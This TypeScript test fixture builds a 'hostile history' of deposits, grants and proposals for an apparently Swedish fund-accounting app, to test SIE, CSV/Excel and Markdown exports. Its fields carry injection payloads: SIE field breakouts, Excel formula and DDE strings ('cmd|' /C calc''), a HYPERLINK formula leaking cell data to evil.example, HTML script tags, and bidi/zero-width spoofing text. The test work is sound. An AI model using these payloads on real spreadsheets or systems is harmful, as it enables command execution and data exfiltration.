import { addDays, PARTY_IDS, type PartyId } from '@dgr/domain';
import { cp437Decode, cp437Encode } from '@dgr/application';
import type { DemoStep } from '../demo-history';

/*
 * A history written by an attacker with an ordinary clerk's and finance officer's rights (issue 17, items 3,
 * 4 and 9): texts made to break out of the fields of the SIE file, to run as formulas in Excel, to break the
 * annual report's Markdown tables, and to hide or reverse text with bidi controls and zero-width characters.
 * It goes through the real command handlers, as an imported or older log would (the API refuses the invisible
 * characters at the edge, so they can only come that way).
 */

/** The probe's title: `”` becomes `"` in CP437, and a naive escape lets it forge a field in `#VER`. */
export const SIE_INJECTION_TITLE = 'Kompetens” 20991231 ”Injicerad';

/** Is `byte` one that may break an SIE line: a quote, a backslash, a brace, or a control byte? */
const breaksSie = (byte: number): boolean => byte === 0x22 || byte === 0x5c || byte === 0x7b || byte === 0x7d || byte < 0x20 || byte === 0x7f;

/**
 * EVERY character (all of Unicode, not a list written by hand) whose code page 437 encoding holds a byte that
 * may break an SIE line: `"` and what the encoder maps onto it (“ ” „ ″), `\`, `{`, `}`, and the characters
 * that become control bytes (CR, LF, and § and ¶, PC8's glyphs at 0x15 and 0x14).
 */
export const SIE_HOSTILE_CHARACTERS: readonly string[] = (() => {
  const found: string[] = [];
  for (let cp = 0; cp <= 0x10ffff; cp++) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue;
    const c = String.fromCodePoint(cp);
    if (cp437Encode(c).some(breaksSie)) found.push(c);
  }
  return found;
})();

/** A text that tries to close the quoted field with `c`, add a field of its own, and open another. */
export const sieBreakout = (c: string): string => `Text${c} 20991231 ${c}Injicerad ${c}} {${c} slut`;

/**
 * What a text reads as in the SIE file, read back by an SIE reader: each character as CP437 has it (`”` → `"`,
 * `–` → `-`, what it lacks → `?`), a control character (a line break) as a space; § and ¶ are themselves.
 */
export const asSieReadsIt = (text: string): string =>
  [...cp437Decode(cp437Encode(text))].map((c) => (c.charCodeAt(0) < 0x20 || c === '\u007f' ? ' ' : c)).join('');

/** Titles that Excel would run as formulas, each starting with one of `=`, `+`, `-`, `@`. */
export const FORMULA_TITLES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"klick")',
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
];

/** A deposit's source that Excel would run as a formula. */
export const FORMULA_SOURCE = '=1+2';

/** Markdown that breaks a table row or adds markup: pipes, an escaped pipe, HTML, emphasis, a link, code. */
export const MARKDOWN_TITLE = 'Del | två \\| tre <b>fet</b> *stjärna* _under_ [länk](http://evil.example) `kod` &amp; ~~struken~~';

/** A title hiding and reversing text: a right-to-left override, isolates, marks and zero-width characters. */
export const BIDI_TITLE = 'Avtal \u202Egnilatöb\u202C och\u200Bdolt\u200C\u200D\u2060\uFEFF \u2066iso\u2069 \u2067r\u2069 \u2068f\u2069 \u202Aa\u202B\u202D \u200E\u200F\u061C slut';

/** Every invisible control the renderings must make visible (bidi controls and zero-width characters). */
export const INVISIBLE_CONTROLS: readonly string[] = [
  '\u202A', '\u202B', '\u202C', '\u202D', '\u202E',
  '\u2066', '\u2067', '\u2068', '\u2069',
  '\u200E', '\u200F', '\u061C',
  '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF',
];

/** The day the hostile history is read on (a day of the same year as every booking). */
export const HOSTILE_TODAY = '2026-11-23';
export const HOSTILE_YEAR = 2026;

const approvedByAll = (key: string, firstOn: string): DemoStep[] =>
  (PARTY_IDS as readonly PartyId[]).map((party, i) => ({
    kind: 'decide',
    key,
    party,
    outcome: 'approved',
    decidedOn: addDays(firstOn, i % 10),
    minuteReference: `§ ${10 + i}`,
  }));

/**
 * The hostile history, all in 2026: a deposit per hostile character (its source and reference trying to break out
 * of the field), the probe's title granted and paid with a payout per hostile character (its reference trying
 * the same) and money returned for a hostile reason, a granted initiative with Markdown and bidi in its title and
 * outcome report, and initiatives whose titles are formulas.
 */
export const hostileHistory = (): DemoStep[] => [
  { kind: 'deposit', amountOre: 100_000_000, source: 'Kommunalförbundet Region Värmland', bookedOn: '2026-01-09', reference: 'Ver 2026-0001' },
  ...SIE_HOSTILE_CHARACTERS.map(
    (c, i): DemoStep => ({ kind: 'deposit', amountOre: 100 + i, source: sieBreakout(c), bookedOn: '2026-01-12', reference: sieBreakout(c) }),
  ),
  { kind: 'deposit', amountOre: 1_000, source: FORMULA_SOURCE, bookedOn: '2026-01-13', reference: '@ref' },
  {
    kind: 'propose',
    key: 'sie',
    data: { title: SIE_INJECTION_TITLE, summary: 'Provar SIE-exporten.', proposedBy: '1780', proposedOn: '2026-02-02', requestedAmountOre: 10_000_000, transportProgramme: true },
  },
  ...approvedByAll('sie', '2026-03-01'),
  { kind: 'grant', key: 'sie', amountOre: 10_000_000, decidedOn: '2026-04-01', reference: 'RS 2026/1' },
  ...SIE_HOSTILE_CHARACTERS.map((c, i): DemoStep => ({ kind: 'withdraw', key: 'sie', amountOre: 1_000 + i, bookedOn: '2026-05-04', reference: sieBreakout(c) })),
  { kind: 'return', key: 'sie', amountOre: 500, bookedOn: '2026-06-01', reason: SIE_HOSTILE_CHARACTERS.map(sieBreakout).join(' ') },
  {
    kind: 'propose',
    key: 'markdown',
    data: { title: `${MARKDOWN_TITLE} ${BIDI_TITLE}`, summary: 'Provar årsrapporten.', proposedBy: '1785', proposedOn: '2026-02-03', requestedAmountOre: 5_000_000, transportProgramme: true },
  },
  ...approvedByAll('markdown', '2026-03-02'),
  { kind: 'grant', key: 'markdown', amountOre: 5_000_000, decidedOn: '2026-04-02', reference: 'RS 2026/2' },
  { kind: 'withdraw', key: 'markdown', amountOre: 1_000_000, bookedOn: '2026-05-05', reference: 'Ver 2026-0900' },
  { kind: 'report', key: 'markdown', year: HOSTILE_YEAR, summary: `Rad ett\n# Rubrik\n| a | b |\n${BIDI_TITLE} <script>x</script>` },
  ...FORMULA_TITLES.map(
    (title, i): DemoStep => ({
      kind: 'propose',
      key: `formula-${i}`,
      data: { title, summary: 'Provar CSV för Excel.', proposedBy: '1780', proposedOn: '2026-02-04', requestedAmountOre: 0, transportProgramme: true },
    }),
  ),
];
